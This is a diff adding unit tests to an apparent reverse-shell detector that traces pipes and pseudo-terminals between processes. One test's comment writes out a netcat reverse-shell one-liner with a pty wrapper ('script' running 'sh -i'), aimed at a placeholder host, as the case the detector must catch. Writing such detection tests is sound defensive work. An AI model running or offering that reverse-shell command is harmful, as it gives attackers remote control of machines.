@@ -165,3 +165,21 @@ def test_the_watcher_ignores_episodes_without_shells_and_local_connections():
     assert proc.reads == 1                      # the shell only: its stdin is a terminal
     shells.on_event(connected(12, 3 * SCAN_INTERVAL_NS, ip="127.0.0.1"))
     assert proc.reads == 1
+
+
+def test_a_pty_wrapper_is_one_hop():
+    # cat F | script -qc 'sh -i' | nc H P > F   (cat 10, script 13 holds the pty master, sh 11 on /dev/pts/3)
+    files = {10: FIFO_NC[10],
+             13: [(0, "pipe", "1", "r"), (1, "pipe", "2", "w"), (3, "pty", "3", "rw")],
+             11: [(0, "pty", "3", "rw"), (1, "pty", "3", "rw"), (2, "pty", "3", "rw")],
+             12: FIFO_NC[12]}
+    connection, feed, back = wiring(11, files, {12: [conn(12)]}, names={10: "cat", 13: "script", 12: "nc"}.get)
+    assert connection.pid == 12
+    assert feed.startswith("pty:[3] <- script (pid 13) <- pipe:[1] <- cat (pid 10)"), feed
+    assert back == "pty:[3] -> script (pid 13) -> pipe:[2] -> nc (pid 12)", back
+
+
+def test_a_terminal_whose_master_is_outside_the_episode_is_left_alone():
+    # an interactive shell on /dev/pts/3 (sshd or a terminal holds the master, outside the episode)
+    files = {11: [(0, "pty", "3", "rw"), (1, "pty", "3", "rw")], 12: FIFO_NC[12]}
+    assert wiring(11, files, {12: [conn(12)]}) is None
